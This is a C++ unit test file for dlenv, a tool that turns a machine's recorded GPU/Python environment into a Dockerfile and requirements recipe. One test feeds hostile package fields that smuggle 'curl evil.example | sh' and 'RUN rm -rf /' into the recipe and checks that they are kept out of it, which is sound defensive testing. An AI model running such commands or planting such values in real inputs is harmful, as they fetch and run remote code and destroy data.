#include "lock/recipe.h"

#include <gtest/gtest.h>

#include "lock/command.h"
#include "lock/test_locks.h"
#include "testing/temp_tree.h"
#include "testing/tools.h"
#include "util/atomic_write.h"
#include "util/strings.h"
#include "util/subprocess.h"

namespace dlenv::lock {
namespace {

using testing::FindPackage;
using testing::GpuMachineLock;
using testing::Rehash;

struct ImageCase {
  const char* cuda;
  std::optional<int> cudnn;
  std::optional<std::string> python;
  const char* expected;  // "" when no image fits
};

// Expected tags follow NVIDIA's published scheme: cudnn8 up to CUDA 12.2, cudnn9 for 12.3.2,
// plain "cudnn" (cuDNN 9) from 12.4.1 on; the newest patch of the minor release.
TEST(CudaImageTest, TagMatchesTheLocksCudaAndCudnn) {
  const ImageCase cases[] = {
      {"12.1", 8, "3.10", "nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04"},
      {"12.4", 9, "3.10", "nvidia/cuda:12.4.1-cudnn-runtime-ubuntu22.04"},
      {"12.3", 9, "3.10", "nvidia/cuda:12.3.2-cudnn9-runtime-ubuntu22.04"},
      {"11.8", 8, "3.8", "nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu20.04"},
      {"11.8", 8, "3.10", "nvidia/cuda:11.8.0-cudnn8-runtime-ubuntu22.04"},
      {"12.6", 9, "3.12", "nvidia/cuda:12.6.3-cudnn-runtime-ubuntu24.04"},
      {"12.8", 9, std::nullopt, "nvidia/cuda:12.8.1-cudnn-runtime-ubuntu24.04"},
      {"12.2", 8, "3.10", "nvidia/cuda:12.2.2-cudnn8-runtime-ubuntu22.04"},
      {"13.0", 9, "3.12", "nvidia/cuda:13.0.1-cudnn-runtime-ubuntu24.04"},
      {"12.1", std::nullopt, "3.10", "nvidia/cuda:12.1.1-runtime-ubuntu22.04"},
      // No image pairs CUDA 12.4 with cuDNN 8: the image without cuDNN.
      {"12.4", 8, "3.10", "nvidia/cuda:12.4.1-runtime-ubuntu22.04"},
      // No 12.7 image: the next minor runs 12.7 builds.
      {"12.7", 9, "3.12", "nvidia/cuda:12.8.1-cudnn-runtime-ubuntu24.04"},
      {"10.2", 7, "3.8", ""},
  };
  const auto& table = BuiltinCudaImages();
  for (const auto& c : cases) {
    auto base = ChooseCudaImage(table, *util::DottedVersion::Parse(c.cuda), c.cudnn, c.python);
    EXPECT_EQ(base ? base->image : "", c.expected)
        << "CUDA " << c.cuda << " cuDNN " << c.cudnn.value_or(0);
  }
  auto fallback = ChooseCudaImage(table, *util::DottedVersion::Parse("12.4"), 8, "3.10");
  ASSERT_TRUE(fallback);
  ASSERT_EQ(fallback->notes.size(), 1u);
  EXPECT_NE(fallback->notes[0].find("nvidia-cudnn-cu12"), std::string::npos);
}

TEST(CudaImageTest, CpuOnlyLockUsesItsOwnDistribution) {
  Lock lock = GpuMachineLock();
  lock.python->frameworks.clear();
  std::erase_if(lock.python->packages,
                [](auto& p) { return p.name.starts_with("nvidia") || p.name == "torch"; });
  lock.toolkits.clear();
  lock.cuda_libraries.clear();
  lock.host.os_id = "debian";
  lock.host.os_version = "12";
  lock.python->version = "3.11.2";
  BaseImage base = ChooseBaseImage(BuiltinCudaImages(), lock);
  EXPECT_EQ(base.image, "debian:12");
  EXPECT_EQ(base.distro_python, "3.11");
}

TEST(RecipeTest, PinsTheFrameworkVariantWithItsIndex) {
  Recipe r = MakeRecipe(GpuMachineLock(), {}, BuiltinCudaImages());
  EXPECT_EQ(r.base.image, "nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04");
  ASSERT_EQ(r.files.size(), 2u);
  const std::string& docker = r.files[0].contents;
  const std::string& req = r.files[1].contents;
  EXPECT_EQ(r.files[1].name, "requirements.txt");
  EXPECT_NE(req.find("\n--extra-index-url https://download.pytorch.org/whl/cu121\n"),
            std::string::npos)
      << req;
  EXPECT_NE(req.find("\ntorch==2.3.1+cu121\n"), std::string::npos);
  EXPECT_NE(req.find("\nnumpy==1.26.4\n"), std::string::npos);
  EXPECT_EQ(req.find("pip=="), std::string::npos);  // left to the interpreter
  EXPECT_NE(docker.find("\nFROM nvidia/cuda:12.1.1-cudnn8-runtime-ubuntu22.04\n"),
            std::string::npos)
      << docker;
  EXPECT_NE(docker.find("NVIDIA_REQUIRE_CUDA=\"cuda>=12.1\""), std::string::npos);
  EXPECT_NE(docker.find("driver >= 530.30.02"), std::string::npos)
      << docker;  // CUDA 12.1's GA driver
  EXPECT_NE(docker.find("apt-get install -y --no-install-recommends python3 python3-venv"),
            std::string::npos);
  EXPECT_EQ(docker.find("EXPOSE"), std::string::npos);
}

TEST(RecipeTest, DirectUrlsAreKeptAndUnownedSystemPackagesAreMissing) {
  Lock lock = GpuMachineLock();
  lock.python->packages.push_back(
      {"mylib", "0.1.0", "pip", "https://example.org/mylib-0.1.0-py3-none-any.whl"});
  // The distribution's, but the lock does not say which package owns it (an older dlenv).
  lock.python->packages.push_back({"python-apt", "2.6.0", "debian", std::nullopt});
  Recipe r = MakeRecipe(lock, {}, BuiltinCudaImages());
  const std::string& req = r.files[1].contents;
  EXPECT_NE(req.find("\nmylib @ https://example.org/mylib-0.1.0-py3-none-any.whl\n"),
            std::string::npos)
      << req;
  EXPECT_EQ(req.find("\npython-apt=="), std::string::npos);
  ASSERT_EQ(r.missing.size(), 1u);
  EXPECT_EQ(r.missing[0].name, "python-apt");
  EXPECT_FALSE(r.missing[0].framework);
  EXPECT_NE(r.missing[0].why.find("does not say which package owns it"), std::string::npos);
  EXPECT_NE(req.find("# NOT reproduced (--allow-missing): python-apt 2.6.0"), std::string::npos)
      << req;
}

// Debian's system Python with python3-torch, as `dlenv lock` records it.
Lock DebianSystemLock() {
  Lock lock = GpuMachineLock();
  lock.host = {"debian", "12", "Debian GNU/Linux 12 (bookworm)", "2.36"};
  lock.toolkits.clear();
  lock.cuda_libraries.clear();
  lock.python->version = "3.11.2";
  lock.python->kind = "system";
  lock.python->packages.clear();
  LockedPackage torch{"torch", "1.13.0a0+gitunknown", "debian", std::nullopt};
  torch.distro_package = "python3-torch";
  torch.distro_version = "1.13.1+dfsg-4";
  LockedPackage numpy{"numpy", "1.24.2", "debian", std::nullopt};
  numpy.distro_package = "python3-numpy";
  numpy.distro_version = "1:1.24.2-1";
  LockedPackage pip{"pip", "23.0.1", "debian", std::nullopt};
  pip.distro_package = "python3-pip";
  pip.distro_version = "23.0.1+dfsg-1";
  lock.python->packages = {numpy, pip, {"requests", "2.31.0", "pip", std::nullopt}, torch};
  auto& f = lock.python->frameworks.front();
  f.version = "1.13.0a0+gitunknown";
  f.cuda_build = false;
  f.cuda_version.reset();
  f.cudnn_version.reset();
  f.cuda_archs.clear();
  return Rehash(lock);
}

TEST(RecipeTest, DistributionPackagesArePinnedWithAptOnTheirOwnImage) {
  Recipe r = MakeRecipe(DebianSystemLock(), {}, BuiltinCudaImages());
  EXPECT_TRUE(r.missing.empty()) << DescribeMissing(r.missing);
  EXPECT_EQ(r.base.image, "debian:12");
  const std::string& docker = r.files[0].contents;
  const std::string& req = r.files[1].contents;
  EXPECT_NE(docker.find("\nFROM debian:12\n"), std::string::npos) << docker;
  EXPECT_NE(docker.find("apt-get install -y --no-install-recommends \\\n      python3 python3-venv "
                        "python3-pip \\\n"
                        "      python3-numpy=1:1.24.2-1 \\\n      python3-pip=23.0.1+dfsg-1 \\\n"
                        "      python3-torch=1.13.1+dfsg-4 \\\n && rm -rf /var/lib/apt/lists/*\n"),
            std::string::npos)
      << docker;
  EXPECT_NE(docker.find("RUN python3 -m venv --system-site-packages /opt/venv\n"),
            std::string::npos);
  EXPECT_NE(req.find("\nrequests==2.31.0\n"), std::string::npos) << req;
  EXPECT_EQ(req.find("torch=="), std::string::npos) << req;
  EXPECT_NE(req.find("installed by apt-get in the Dockerfile: python3-numpy=1:1.24.2-1"),
            std::string::npos)
      << req;
}

TEST(RecipeTest, DistributionPackagesOverrideTheCudaImageOfAnotherDistribution) {
  Lock lock = DebianSystemLock();
  auto& f = lock.python->frameworks.front();
  f.cuda_build = true;  // Debian's python3-torch-cuda
  f.cuda_version = "12.4";
  Recipe r = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
  EXPECT_EQ(r.base.image, "debian:12");
  EXPECT_FALSE(r.base.cuda);
  ASSERT_FALSE(r.base.notes.empty());
  EXPECT_NE(r.files[0].contents.find("no nvidia/cuda image is built on debian:12"),
            std::string::npos);

  // On Ubuntu 22.04 the nvidia/cuda image is that distribution: it stays.
  lock.host = {"ubuntu", "22.04", "Ubuntu 22.04.4 LTS", "2.35"};
  lock.python->version = "3.10.12";
  Recipe u = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
  EXPECT_EQ(u.base.image, "nvidia/cuda:12.4.1-runtime-ubuntu22.04");
  EXPECT_NE(u.files[0].contents.find("python3-torch=1.13.1+dfsg-4"), std::string::npos);
}

// The `# Run:` line of a recipe's Dockerfile.
std::string RunLine(const Recipe& r) {
  const std::string& docker = r.files.at(0).contents;
  auto at = docker.find("# Run:   ");
  if (at == std::string::npos) return "";
  return docker.substr(at, docker.find('\n', at) - at);
}

TEST(RecipeTest, DockerRunPassesTheGpusWheneverTheLockUsesCuda) {
  // The nvidia/cuda image.
  Recipe cuda_image = MakeRecipe(GpuMachineLock(), {}, BuiltinCudaImages());
  ASSERT_TRUE(cuda_image.base.cuda);
  EXPECT_EQ(RunLine(cuda_image), "# Run:   docker run --rm -it --gpus all team-env");

  // Debian's python3-torch-cuda on debian:12: no CUDA in the image, torch is a CUDA build.
  Lock debian_cuda = DebianSystemLock();
  debian_cuda.gpus.clear();
  debian_cuda.python->frameworks.front().cuda_build = true;
  debian_cuda.python->frameworks.front().cuda_version = "12.4";
  FindPackage(debian_cuda, "torch")->distro_package = "python3-torch-cuda";
  RecipeOptions jupyter;
  jupyter.jupyter = true;
  Recipe r = MakeRecipe(Rehash(debian_cuda), jupyter, BuiltinCudaImages());
  ASSERT_EQ(r.base.image, "debian:12");
  ASSERT_FALSE(r.base.cuda);
  EXPECT_EQ(RunLine(r), "# Run:   docker run --rm -it --gpus all -p 8888:8888 team-env");
  EXPECT_NE(r.files[0].contents.find("#        --gpus all: torch is a CUDA build;"),
            std::string::npos)
      << r.files[0].contents;

  // pip's CUDA wheel of torch (it carries its own CUDA libraries) over Debian's numpy: the
  // distribution's image, so no CUDA in it either.
  Lock pip_cuda = DebianSystemLock();
  pip_cuda.gpus.clear();
  auto* torch = FindPackage(pip_cuda, "torch");
  *torch = {"torch", "2.3.1+cu121", "pip", std::nullopt};
  pip_cuda.python->packages.push_back({"nvidia-cublas-cu12", "12.1.3.1", "pip", std::nullopt});
  auto& f = pip_cuda.python->frameworks.front();
  f.version = "2.3.1+cu121";
  f.cuda_build = true;
  f.cuda_version = "12.1";
  Recipe p = MakeRecipe(Rehash(pip_cuda), {}, BuiltinCudaImages());
  ASSERT_EQ(p.base.image, "debian:12");
  EXPECT_EQ(RunLine(p), "# Run:   docker run --rm -it --gpus all team-env");

  // CPU-only torch, but the locked machine had GPUs: the container should see them too.
  Lock cpu_on_gpus = DebianSystemLock();
  ASSERT_FALSE(cpu_on_gpus.gpus.empty());
  Recipe g = MakeRecipe(cpu_on_gpus, {}, BuiltinCudaImages());
  EXPECT_EQ(RunLine(g), "# Run:   docker run --rm -it --gpus all team-env");
  EXPECT_NE(g.files[0].contents.find("--gpus all: the locked machine had GPUs"), std::string::npos);

  // CPU-only, no GPUs: nothing to pass.
  Lock cpu = DebianSystemLock();
  cpu.gpus.clear();
  cpu.driver = {};
  Recipe c = MakeRecipe(Rehash(cpu), {}, BuiltinCudaImages());
  EXPECT_EQ(RunLine(c), "# Run:   docker run --rm -it team-env");
  EXPECT_EQ(c.files[0].contents.find("--gpus"), std::string::npos);
}

TEST(RecipeTest, HostileDistroFieldsNeverReachTheShell) {
  Lock lock = DebianSystemLock();
  FindPackage(lock, "numpy")->distro_package = "python3-numpy; curl evil.example | sh";
  FindPackage(lock, "torch")->distro_version = "1.0\nRUN rm -rf /";
  Recipe r = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
  EXPECT_EQ(r.files[0].contents.find("evil"), std::string::npos);
  EXPECT_EQ(r.files[0].contents.find("rm -rf /\n"), std::string::npos);
  ASSERT_EQ(r.missing.size(), 2u);
  EXPECT_TRUE(r.missing[0].framework);  // frameworks first
  EXPECT_EQ(r.missing[0].name, "torch");
  EXPECT_NE(r.missing[1].why.find("is not a Debian package name and version"), std::string::npos);
}

TEST(RecipeTest, DistributionPackagesNeedADebianOrUbuntuImage) {
  Lock lock = DebianSystemLock();
  lock.host = {"rhel", "9.4", "Red Hat Enterprise Linux 9.4", "2.34"};
  Recipe r = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
  EXPECT_EQ(r.missing.size(), 3u);  // numpy, pip, torch
  EXPECT_NE(r.missing[0].why.find("no official Debian or Ubuntu image"), std::string::npos);
}

TEST(RecipeTest, FrameworksWithoutAKnownInstallerAreMissing) {
  Lock lock = GpuMachineLock();
  FindPackage(lock, "torch")->installer.reset();  // a local build copied in: no INSTALLER
  FindPackage(lock, "requests")->installer.reset();
  Recipe r = MakeRecipe(Rehash(lock), {}, BuiltinCudaImages());
  ASSERT_EQ(r.missing.size(), 1u);
  EXPECT_EQ(r.missing[0].name, "torch");
  EXPECT_TRUE(r.missing[0].framework);
  // A lesser package without one is pinned for pip, with a note.
  EXPECT_NE(r.files[1].contents.find("\nrequests==2.31.0\n"), std::string::npos);
  EXPECT_NE(util::Join(r.notes, "\n").find("no installer recorded for requests"),
            std::string::npos);

  // A framework the probe saw without any package record.
  Lock listed = GpuMachineLock();
  std::erase_if(listed.python->packages, [](const auto& p) { return p.name == "torch"; });
  Recipe l = MakeRecipe(Rehash(listed), {}, BuiltinCudaImages());
  ASSERT_EQ(l.missing.size(), 1u);
  EXPECT_TRUE(l.missing[0].framework);
  EXPECT_NE(l.missing[0].why.find("no package record"), std::string::npos);
}

TEST(RecipeTest, PythonFromDeadsnakesWhenTheImageHasAnotherMinor) {
  Lock lock = GpuMachineLock();
  lock.python->version = "3.11.9";  // CUDA 12.1 images are Ubuntu 20.04 (3.8) and 22.04 (3.10)
  Recipe r = MakeRecipe(lock, {}, BuiltinCudaImages());
  const std::string& docker = r.files[0].contents;
  EXPECT_NE(docker.find("ppa:deadsnakes/ppa"), std::string::npos);
  EXPECT_NE(docker.find("RUN python3.11 -m venv /opt/venv"), std::string::npos);
}

std::string RunPython(const std::string& script, const std::vector<std::string>& args) {
  std::vector<std::string> argv = {"python3", "-c", script};
  argv.insert(argv.end(), args.begin(), args.end());
  auto r = util::RunCommand(argv, ::dlenv::testing::ToolOptions());
  EXPECT_TRUE(r.ok()) << r.Describe() << "\n" << r.err;
  return r.out;
}

TEST(RecipeTest, CondaEnvironmentYmlParsesAsYaml) {
  Lock lock = GpuMachineLock();
  lock.python->packages.push_back({"cudatoolkit", "11.8.0", "conda", std::nullopt});
  lock.python->packages.push_back({"odd", "1.0", "pip", "https://example.org/a b: c # d.whl"});
  RecipeOptions options;
  options.conda = true;
  options.jupyter = true;
  options.ssh = true;
  Recipe r = MakeRecipe(lock, options, BuiltinCudaImages());
  ASSERT_EQ(r.files[1].name, "environment.yml");
  dlenv::testing::TempTree tmp;
  auto yml = tmp.Write("environment.yml", r.files[1].contents);
  // python3-yaml is the oracle: the document must load and say what the lock says.
  std::string out = RunPython(R"(
import sys, yaml, json
doc = yaml.safe_load(open(sys.argv[1]))
print(json.dumps(doc, sort_keys=True))
)",
                              {yml.string()});
  auto doc = nlohmann::json::parse(out);
  EXPECT_EQ(doc["name"], "dlenv-env");
  auto deps = doc["dependencies"];
  EXPECT_EQ(deps[0], "python=3.10.12");
  EXPECT_NE(std::find(deps.begin(), deps.end(), "cudatoolkit=11.8.0"), deps.end());
  auto pip = deps.back()["pip"];
  EXPECT_EQ(pip[0], "--extra-index-url https://download.pytorch.org/whl/cu121");
  EXPECT_NE(std::find(pip.begin(), pip.end(), "torch==2.3.1+cu121"), pip.end());
  EXPECT_NE(std::find(pip.begin(), pip.end(), "odd @ https://example.org/a b: c # d.whl"),
            pip.end());
  const std::string& docker = r.files[0].contents;
  EXPECT_NE(docker.find("conda env create -p /opt/env -f /tmp/environment.yml"), std::string::npos);
  EXPECT_NE(docker.find("EXPOSE 8888"), std::string::npos);
  EXPECT_NE(docker.find("EXPOSE 22"), std::string::npos);
  EXPECT_NE(docker.find("/usr/sbin/sshd && exec jupyter lab"), std::string::npos);
}

TEST(AtomicWriteTest, WritesAllOrNothing) {
  dlenv::testing::TempTree tmp;
  auto a = tmp.Write("out/Dockerfile", "old dockerfile");
  tmp.MakeDir("out/requirements.txt");  // a folder where a file must go: the second write fails
  std::string err =
      util::WriteFilesAtomically({{a, "new dockerfile"}, {tmp / "out/requirements.txt", "x"}});
  EXPECT_NE(err.find("requirements.txt: is a folder"), std::string::npos) << err;
  EXPECT_EQ(dlenv::testing::ReadAll(a), "old dockerfile");
  std::size_t entries = 0;
  for ([[maybe_unused]] auto& e : std::filesystem::directory_iterator(tmp / "out")) ++entries;
  EXPECT_EQ(entries, 2u);  // no temporary file left behind

  EXPECT_EQ(util::WriteFilesAtomically({{a, "new dockerfile"}}), "");
  EXPECT_EQ(dlenv::testing::ReadAll(a), "new dockerfile");
  EXPECT_NE(util::WriteFilesAtomically({{tmp / "missing/dir/x", "y"}}).find("cannot create a file"),
            std::string::npos);
}

TEST(RecipeCommandTest, BadLockWritesNothingAndExitsTwo) {
  dlenv::testing::TempTree tmp;
  auto lock = tmp.Write("team.lock", R"({"lock_version": 7, "environment": {}})");
  RecipeCommandOptions options;
  options.lock = lock.string();
  options.output_dir = (tmp / "out").string();
  model::CommandResult r = RunRecipe(options);
  EXPECT_EQ(model::ToInt(r.exit), 2);
  EXPECT_NE(r.error.find("team.lock: written by a newer dlenv (lock_version 7"), std::string::npos)
      << r.error;
  EXPECT_FALSE(std::filesystem::exists(tmp / "out"));
}

TEST(RecipeCommandTest, AFrameworkThatCannotBeReproducedExitsOneNamingIt) {
  dlenv::testing::TempTree tmp;
  Lock lock = GpuMachineLock();
  FindPackage(lock, "torch")->installer.reset();
  RecipeCommandOptions options;
  options.lock = tmp.Write("team.lock", ToJson(Rehash(lock)).dump(2)).string();
  options.output_dir = (tmp / "out").string();
  options.recipe.allow_missing = true;  // never enough for a framework
  model::CommandResult r = RunRecipe(options);
  EXPECT_EQ(model::ToInt(r.exit), 1);
  EXPECT_NE(r.error.find("cannot reproduce a framework; nothing was written"), std::string::npos)
      << r.error;
  EXPECT_NE(r.error.find("  torch 2.3.1+cu121 (framework): no installer recorded"),
            std::string::npos)
      << r.error;
  EXPECT_FALSE(std::filesystem::exists(tmp / "out"));
}

TEST(RecipeCommandTest, OtherPackagesThatCannotBeReproducedNeedAllowMissing) {
  dlenv::testing::TempTree tmp;
  Lock lock = GpuMachineLock();
  lock.python->packages.push_back({"python-apt", "2.6.0", "debian", std::nullopt});
  RecipeCommandOptions options;
  options.lock = tmp.Write("team.lock", ToJson(Rehash(lock)).dump(2)).string();
  options.output_dir = (tmp / "out").string();
  model::CommandResult r = RunRecipe(options);
  EXPECT_EQ(model::ToInt(r.exit), 1);
  EXPECT_NE(r.error.find("  python-apt 2.6.0: installed by the distribution"), std::string::npos)
      << r.error;
  EXPECT_NE(r.error.find("or pass --allow-missing"), std::string::npos) << r.error;
  EXPECT_FALSE(std::filesystem::exists(tmp / "out"));

  options.recipe.allow_missing = true;
  r = RunRecipe(options);
  EXPECT_EQ(model::ToInt(r.exit), 0) << r.error;
  EXPECT_NE(r.out.find("Note: NOT reproduced (--allow-missing): python-apt 2.6.0"),
            std::string::npos)
      << r.out;
  EXPECT_NE(dlenv::testing::ReadAll(tmp / "out/requirements.txt").find("\ntorch==2.3.1+cu121\n"),
            std::string::npos);
}

TEST(RecipeCommandTest, MissingLockFileIsNamed) {
  RecipeCommandOptions options;
  options.lock = "/nonexistent/team.lock";
  model::CommandResult r = RunRecipe(options);
  EXPECT_EQ(model::ToInt(r.exit), 2);
  EXPECT_EQ(r.error, "/nonexistent/team.lock: cannot read: No such file or directory");
}

}  // namespace
}  // namespace dlenv::lock

namespace dlenv::lock {
namespace {

// diff and recipe ask the same framework identity: the framework's distributions in any
// spelling, its plugins and the companions released beside its CUDA variants; not numpy, not
// a look-alike such as tensorflow-io.
TEST(RecipeTest, FrameworkPackagesComeFromTheIdentity) {
  Lock lock;
  for (const char* n :
       {"torch", "TorchVision", "torchaudio", "tensorflow-cpu", "tf_nightly", "jaxlib",
        "jax-cuda13-pjrt", "cupy-cuda12x", "onnxruntime-gpu", "mxnet-cu112"}) {
    EXPECT_TRUE(IsFrameworkPackage(lock, n)) << n;
  }
  for (const char* n : {"numpy", "tensorflow-io", "tensorboard", "requests"}) {
    EXPECT_FALSE(IsFrameworkPackage(lock, n)) << n;
  }
}

// The recipe's image runs with --gpus all: RunRecipe says whether this machine can start it,
// from the container runtime facts doctor reads (a fixture root here).
TEST(RecipeCommandTest, SaysWhetherThisHostCanRunTheImageWithGpus) {
  dlenv::testing::TempTree tmp;
  RecipeCommandOptions options;
  options.lock = tmp.Write("team.lock", ToJson(Rehash(GpuMachineLock())).dump(2)).string();
  options.output_dir = (tmp / "out").string();
  options.machine.root = (tmp / "/host").string();
  options.machine.ask_host_driver = false;
  tmp.Write("/host/dev/nvidia0", "");
  model::CommandResult r = RunRecipe(options);
  ASSERT_EQ(model::ToInt(r.exit), 0) << r.error;
  EXPECT_NE(r.out.find("This host cannot run it with its GPUs yet:\n  - no container runtime here"),
            std::string::npos)
      << r.out;
  // docker with the toolkit's hook: nothing stops it.
  tmp.Write("/host/usr/bin/dockerd", "");
  tmp.Write("/host/usr/bin/nvidia-container-runtime-hook", "");
  r = RunRecipe(options);
  ASSERT_EQ(model::ToInt(r.exit), 0) << r.error;
  EXPECT_NE(r.out.find("This host can run it with its GPUs"), std::string::npos) << r.out;
  // docker without the toolkit: doctor's own finding, with its fix.
  std::filesystem::remove(tmp / "/host/usr/bin/nvidia-container-runtime-hook");
  r = RunRecipe(options);
  EXPECT_NE(r.out.find("docker is installed but cannot give containers the GPUs "
                       "(container.docker_gpu_support_missing): Install the NVIDIA container "
                       "toolkit"),
            std::string::npos)
      << r.out;
}

}  // namespace
}  // namespace dlenv::lock
